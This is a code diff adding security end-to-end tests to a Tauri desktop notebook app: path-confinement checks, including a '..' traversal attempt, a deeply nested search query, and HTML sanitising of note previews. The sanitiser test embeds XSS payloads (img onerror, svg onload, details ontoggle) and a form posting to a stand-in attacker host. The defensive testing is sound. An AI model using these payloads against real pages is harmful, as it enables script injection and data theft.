@@ -85,7 +85,7 @@ try {
     hostname: '127.0.0.1',
     port: 4444,
     logLevel: 'warn',
-    capabilities: { 'wdio:enforceWebDriverClassic': true, 'tauri:options': { application: app } },
+    capabilities: { 'wdio:enforceWebDriverClassic': true, 'tauri:options': { application: app, args: ['--allow-folder', work] } },
   });
 
   await test('first start opens the default notebook with the sample article', async () => {
@@ -455,6 +455,79 @@ try {
       jsLinks: [...document.querySelectorAll('a[href^="javascript"]')].length,
     }));
     assert.deepEqual(state, { pwned: null, remoteImages: 0, iframes: 0, scripts: 0, jsLinks: 0 });
+  });
+
+  await test('the window may use only paths the user picked', async () => {
+    // A page that names a path itself (a compromised page would) is refused: nothing
+    // outside the folders granted on the command line is read, written or opened.
+    const outside = mkdtempSync(path.join(tmpdir(), 'dossier-outside-'));
+    const secret = path.join(outside, 'secret.md');
+    writeFileSync(secret, '# Geheim\n\nDieser Text darf nicht importiert werden.');
+    const target = path.join(outside, 'overwritten.csv');
+    const r = await browser.execute((secret, target, outside, work) => {
+      const inv = window.__TAURI_INTERNALS__.invoke;
+      const ch = () => `__CHANNEL__:${window.__TAURI_INTERNALS__.transformCallback(() => {})}`;
+      const err = (p) => p.then(() => null, (e) => e.code);
+      return Promise.all([
+        err(inv('import_paths', { paths: [secret], onProgress: ch() })),
+        err(inv('export', { format: 'csv', out: target, scope: { article_id: null, code: null }, force: true, onProgress: ch() })),
+        err(inv('restore_backup', { backup: secret, into: `${outside}/restored.dossier` })),
+        err(inv('create_notebook', { path: `${outside}/new.dossier` })),
+        err(inv('open_notebook', { path: outside })),
+        err(inv('import_new_version', { path: secret, replaces: 'x' })),
+        // `..` does not climb out of a granted folder.
+        err(inv('import_paths', { paths: [`${work}/../${secret.split('/').slice(-2).join('/')}`], onProgress: ch() })),
+      ]);
+    }, secret, target, outside, work);
+    assert.deepEqual(r, Array(7).fill('forbidden'));
+    assert.deepEqual(readdirSync(outside), ['secret.md']);
+    const titles = await browser.execute(() => window.__TAURI_INTERNALS__.invoke('list_articles').then((a) => a.map((x) => x.title)));
+    assert.ok(!titles.includes('Geheim'), JSON.stringify(titles));
+  });
+
+  await test('a query nested 20 000 groups deep is searched as words, the window stays up', async () => {
+    await browser.keys(['Control', 'k']);
+    await byTest('search-input').waitForDisplayed({ timeout: 3000 });
+    const deep = `${'('.repeat(20000)}Qwen${')'.repeat(20000)}`;
+    // Pasted, as an analyst would: the palette searches on every change. The whole
+    // query is longer than a query may be (it is cut, not parsed); a shorter one
+    // still nests far deeper than the parser follows and is searched as its words.
+    const shallower = `${'('.repeat(1900)}Qwen${')'.repeat(1900)}`;
+    await browser.execute((qs) => {
+      const input = document.querySelector('[data-testid="search-input"]');
+      for (const v of qs) {
+        input.value = v;
+        input.dispatchEvent(new Event('input', { bubbles: true }));
+      }
+    }, [deep.slice(0, 10000), deep, shallower]);
+    await browser.waitUntil(async () => (await $$('[data-testid="search-hit"]')).length > 0, { timeout: 10000, timeoutMsg: 'hits for the deep query' });
+    const direct = await browser.execute((q) => window.__TAURI_INTERNALS__.invoke('search', { request: { query: q, kind: null, code: null, language: null, limit: 5, offset: 4000000000, skip_snippets: false } }).then((r) => r.total, (e) => e.code), deep);
+    assert.equal(typeof direct, 'number', `search with a huge offset: ${direct}`);
+    await browser.keys('Escape');
+    await byTest('search-palette').waitForDisplayed({ reverse: true, timeout: 3000 });
+  });
+
+  await test('note previews keep structure only: no style, form, input or media', async () => {
+    const body = '# Vorschau\n\n<style>body{display:none}</style><form action="https://evil.example"><input name="p" value="x"><button>Senden</button></form>'
+      + '<img src="x" onerror="window.__pwned=1"><svg onload="window.__pwned=2"></svg><details open ontoggle="window.__pwned=3">d</details>\n\n**fett** [[article:"><b>x|Link]]';
+    await browser.execute((body) => window.__TAURI_INTERNALS__.invoke('add_note', { title: 'Sanitiser', body, articleId: null }), body);
+    await browser.refresh();
+    await byTest('tab-notes').waitForDisplayed({ timeout: 10000 });
+    await byTest('tab-notes').click();
+    const items = await $$('[data-testid="note-item"]');
+    const names = await browser.execute(() => [...document.querySelectorAll('[data-testid="note-item"]')].map((e) => e.textContent));
+    await items[names.findIndex((n) => n.includes('Sanitiser'))].click();
+    await byTest('note-preview').waitForDisplayed({ timeout: 3000 });
+    const seen = await browser.execute(() => {
+      const root = document.querySelector('[data-testid="note-preview"]');
+      return {
+        active: root.querySelectorAll('style, form, input, button, img, svg, details, iframe, script').length,
+        strong: root.querySelectorAll('strong').length,
+        links: [...root.querySelectorAll('a')].map((a) => a.getAttribute('href')),
+        pwned: window.__pwned ?? null,
+      };
+    });
+    assert.deepEqual(seen, { active: 0, strong: 1, links: ['#'], pwned: null });
   });
 
   await test('errors arrive as {code, message}', async () => {
